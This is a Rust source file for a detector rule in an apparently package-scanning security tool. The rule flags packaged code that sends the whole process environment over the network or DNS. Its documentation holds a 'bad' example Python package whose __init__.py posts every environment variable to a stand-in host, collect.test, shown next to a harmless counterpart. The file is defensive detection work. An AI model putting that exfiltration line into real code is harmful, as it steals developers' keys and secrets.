//! The whole environment is sent away.

use bulkhead_core::{Confidence, Severity};

use super::code::{Rule, fixed_address, quoted, say, weigh, weigh_called, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "environment-sent",
    title: "the whole environment is sent away",
    severity: Severity::Critical,
    confidence: Confidence::High,
    doc: "\
The environment of a developer or a build machine holds its keys. Code that sends all of it away without being asked is theft, whatever it says it is for.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import os, requests
requests.post('https://collect.test/', json=dict(os.environ))
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import os
DEBUG = os.environ.get('DEMO_DEBUG')
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        if matches!(behaviour.effect.ability, Ability::Network | Ability::Dns)
            && behaviour.effect.from.any(Sources::ENVIRONMENT)
        {
            let fixed = behaviour.effect.detail.as_deref().is_some_and(fixed_address);
            let weight = match unasked(behaviour.context) || !fixed {
                true => weigh(behaviour.context, Severity::Critical, Confidence::High),
                false => weigh_called(behaviour),
            };
            say(
                findings,
                &META,
                behaviour,
                weight,
                format!("the whole environment goes to the network {}: {}", when(behaviour.context), quoted(behaviour)),
            );
        }
    }
}
